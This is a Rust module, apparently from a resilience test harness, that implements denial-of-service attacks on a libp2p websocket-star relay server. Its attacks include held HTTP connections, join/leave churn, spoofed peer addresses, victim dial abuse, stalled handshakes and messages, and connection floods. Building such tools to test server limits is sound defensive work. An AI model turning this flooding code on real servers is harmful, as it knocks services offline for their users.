//! The attacker: one address, or one /48, with everything that it may use.

mod flood;
mod held;
mod joined;

use std::{
    io,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use libp2p_identity::Keypair;
use serde_json::json;
use tokio::{net::TcpStream, sync::Semaphore, time::Instant};

use crate::{
    client::Client,
    other,
    plan::Plan,
    source::{Family, Source},
    usage::usage,
};

/// The number of connections that are opened at a time.
const AT_A_TIME: usize = 64;
/// The pause after which a closed connection is opened again.
const PAUSE: Duration = Duration::from_secs(1);
/// The longest time to wait until all parts of the attack are in place.
const PATIENCE: Duration = Duration::from_secs(90);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    Http,
    Joins,
    Peers,
    Dials,
    Messages,
    Handshakes,
    Steady,
    Flood,
    All,
}

impl Attack {
    pub const ALL: [Self; 9] = [
        Self::Http,
        Self::Joins,
        Self::Peers,
        Self::Dials,
        Self::Messages,
        Self::Handshakes,
        Self::Steady,
        Self::Flood,
        Self::All,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::Http => "HTTP connections held",
            Self::Joins => "joins and leaves, 20/s a link",
            Self::Peers => "16 peers a link, anew each second",
            Self::Dials => "a victim's open dials",
            Self::Messages => "unfinished messages",
            Self::Handshakes => "unfinished handshakes",
            Self::Steady => "1,000 connections a second",
            Self::Flood => "connections as fast as they go",
            Self::All => "all at once",
        }
    }

    /// Returns whether the attack consists of connections that are refused.
    pub fn is_flood(self) -> bool {
        matches!(self, Self::Steady | Self::Flood)
    }

    fn parts(self) -> Vec<Self> {
        match self {
            Self::All => Self::ALL
                .into_iter()
                .filter(|part| !matches!(part, Self::All | Self::Flood))
                .collect(),
            one => vec![one],
        }
    }
}

/// The target of an attack, and its kind.
#[derive(Debug)]
pub struct Target {
    pub port: u16,
    pub family: Family,
    pub attack: Attack,
    /// The address that the attack dials.
    pub victim: String,
    pub plan: Plan,
}

impl Target {
    pub fn to_arguments(&self) -> Vec<String> {
        let family = Family::ALL.iter().position(|f| *f == self.family);
        let attack = Attack::ALL.iter().position(|a| *a == self.attack);
        let numbers = [
            self.plan.honest,
            self.port.into(),
            family.unwrap_or_default(),
            attack.unwrap_or_default(),
        ];
        let numbers = numbers.iter().map(ToString::to_string);
        ["--attack".to_owned()]
            .into_iter()
            .chain(numbers)
            .chain([self.victim.clone()])
            .collect()
    }

    pub fn from_arguments(arguments: &[String], plan: Plan) -> io::Result<Self> {
        let [port, family, attack, victim] = arguments else {
            return Err(usage());
        };
        let number = |text: &String| text.parse::<usize>().map_err(|_| usage());
        Ok(Self {
            port: port.parse().map_err(|_| usage())?,
            family: *Family::ALL.get(number(family)?).ok_or_else(usage)?,
            attack: *Attack::ALL.get(number(attack)?).ok_or_else(usage)?,
            victim: victim.clone(),
            plan,
        })
    }

    /// Returns the number of links that the attacker may have.
    fn slots(&self) -> usize {
        self.plan.links_per_ip() * self.family.weight()
    }
}

/// The state that all parts of an attack share.
struct Attacker {
    target: Target,
    key: Keypair,
    connecting: Semaphore,
    /// The number of connections tried.
    tried: AtomicUsize,
    /// The number of slots that are in place, or have failed once.
    ready: AtomicUsize,
    next: AtomicUsize,
}

impl Attacker {
    fn number(&self) -> usize {
        self.next.fetch_add(1, Ordering::Relaxed)
    }

    fn source(&self, n: usize) -> Source {
        let attack = Attack::ALL.iter().position(|a| *a == self.target.attack);
        Source::attacker(self.target.family, attack.unwrap_or_default(), n)
    }

    async fn connect(&self, source: Source) -> io::Result<TcpStream> {
        let _permit = self.connecting.acquire().await.map_err(io::Error::other)?;
        self.tried.fetch_add(1, Ordering::Relaxed);
        source.connect(self.target.port).await
    }

    async fn link(&self, source: Source) -> io::Result<Client> {
        let stream = self.connect(source).await?;
        Client::begin(stream, &source.headers()).await
    }

    /// Returns an unused address for the attacker's one key.
    fn address(&self) -> String {
        let n = self.number();
        let (host, port) = (n / 60_000 % 200, n % 60_000 + 1);
        let peer = self.key.public().to_peer_id();
        format!("/ip4/203.0.113.{host}/tcp/{port}/ws/p2p-websocket-star/ipfs/{peer}")
    }
}

/// Counts a slot as ready, once.
struct Ready(bool);

impl Ready {
    fn set(&mut self, attacker: &Attacker) {
        if !std::mem::replace(&mut self.0, true) {
            attacker.ready.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Attacks until the process is ended. Reports the number of connections tried.
pub async fn run(target: Target) -> io::Result<()> {
    let (attack, slots) = (target.attack, target.slots());
    let attacker = Arc::new(Attacker {
        target,
        key: Keypair::generate_ed25519(),
        connecting: Semaphore::new(AT_A_TIME),
        tried: AtomicUsize::new(0),
        ready: AtomicUsize::new(0),
        next: AtomicUsize::new(0),
    });
    let (floods, parts): (Vec<_>, Vec<_>) = attack.parts().into_iter().partition(|p| p.is_flood());
    let wanted = slots * parts.len();
    for n in 0..slots {
        for part in &parts {
            tokio::spawn(keep_at_it(attacker.clone(), *part, n));
        }
    }
    let deadline = Instant::now() + PATIENCE;
    while attacker.ready.load(Ordering::Relaxed) < wanted && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    if !floods.is_empty() {
        flood::use_up(attacker.clone()).await;
    }
    for flood in floods {
        tokio::spawn(flood::run(attacker.clone(), flood));
    }
    other::tell(|| {
        json!({
            "tried": attacker.tried.load(Ordering::Relaxed),
            "ready": attacker.ready.load(Ordering::Relaxed),
        })
    })
    .await
}

async fn keep_at_it(attacker: Arc<Attacker>, part: Attack, n: usize) {
    let mut ready = Ready(false);
    loop {
        let source = attacker.source(n);
        let ended = match part {
            Attack::Http => held::http(&attacker, source, &mut ready).await,
            Attack::Messages => held::message(&attacker, source, &mut ready).await,
            Attack::Handshakes => held::handshake(&attacker, source, &mut ready).await,
            Attack::Joins => joined::joins(&attacker, source, &mut ready).await,
            Attack::Peers => {
                joined::peers(&attacker, source, n.is_multiple_of(2), &mut ready).await
            }
            Attack::Dials => joined::dials(&attacker, source, &mut ready).await,
            Attack::Steady | Attack::Flood | Attack::All => return,
        };
        // Start again, whatever the reason for the end.
        drop(ended);
        ready.set(&attacker);
        tokio::time::sleep(PAUSE).await;
    }
}
